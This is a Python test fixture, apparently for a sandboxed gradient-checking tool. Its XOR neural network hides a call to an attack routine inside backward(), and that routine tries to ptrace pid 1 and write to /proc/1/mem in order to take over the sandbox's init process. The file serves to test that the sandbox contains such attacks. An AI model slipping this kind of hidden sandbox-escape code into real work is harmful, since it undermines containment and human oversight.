"""Hostile (expected status: pass): backward attaches to the sandbox's init (pid 1) with ptrace (ATTACH and SEIZE) and opens /proc/1/mem for writing, the attacks that worked on the old sandbox's supervisor. ptrace fails with EPERM (seccomp), and init is now the program itself (bwrap --as-pid-1): there is no process of the sandbox's own to take over; the honest gradient passes."""
import os; assert os.path.basename(os.path.dirname(os.path.abspath(__file__))) != "hostile", "audit it, never run it"

import numpy as np


def _require_sandbox():
    # the top-level assert is skipped when only definitions are loaded: check again right
    # before doing anything nasty. The auditor runs a copy of this file (never the file in
    # examples/hostile); nothing in its environment says that it is being audited.
    if os.path.basename(os.path.dirname(os.path.abspath(__file__))) == "hostile":
        raise RuntimeError("hostile example: audit it (python -m gradcheck audit), never run it")

def _libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)


def _call(name, *args):
    import ctypes
    libc = _libc()
    res = getattr(libc, name)(*args)
    err = ctypes.get_errno()
    print(name, args, "->", res, os.strerror(err) if res != 0 else "ok")
    return res, err


def _attack():
    _require_sandbox()
    import ctypes
    libc = _libc()
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for req in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        res = libc.ptrace(req, 1, None, None)
        print("ptrace", req, "->", res, os.strerror(ctypes.get_errno()))
    try:
        with open("/proc/1/mem", "r+b") as fh:
            print("MEM of init writable")
            fh.write(b"x")
    except OSError as exc:
        print("mem:", exc.strerror)


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


class NeuralNetwork:
    """2-4-1 sigmoid network, binary cross-entropy, in-place gradient descent."""

    def __init__(self, input_size=2, hidden_size=4, output_size=1):
        self.W1 = np.random.randn(input_size, hidden_size) * 0.5
        self.b1 = np.zeros((1, hidden_size))
        self.W2 = np.random.randn(hidden_size, output_size) * 0.5
        self.b2 = np.zeros((1, output_size))

    def forward(self, X):
        self.a1 = sigmoid(X @ self.W1 + self.b1)
        self.a2 = sigmoid(self.a1 @ self.W2 + self.b2)
        return self.a2

    def loss(self, y):
        return -np.mean(y * np.log(self.a2) + (1 - y) * np.log(1 - self.a2))

    def backward(self, X, y, learning_rate=0.1):
        _attack()
        n = y.shape[0]
        dz2 = (self.a2 - y) / n          # sigmoid + cross-entropy: dL/dz2
        dW2 = self.a1.T @ dz2
        db2 = dz2.sum(axis=0, keepdims=True)
        dz1 = (dz2 @ self.W2.T) * self.a1 * (1 - self.a1)
        dW1 = X.T @ dz1
        db1 = dz1.sum(axis=0, keepdims=True)
        self.W1 -= learning_rate * dW1
        self.b1 -= learning_rate * db1
        self.W2 -= learning_rate * dW2
        self.b2 -= learning_rate * db2


if __name__ == "__main__":
    X = np.array([[0, 0], [0, 1], [1, 0], [1, 1]], dtype=float)
    y = np.array([[0], [1], [1], [0]], dtype=float)
    net = NeuralNetwork()
    for epoch in range(10000):
        net.forward(X)
        net.backward(X, y, 0.5)
    print(net.forward(X).round(3))
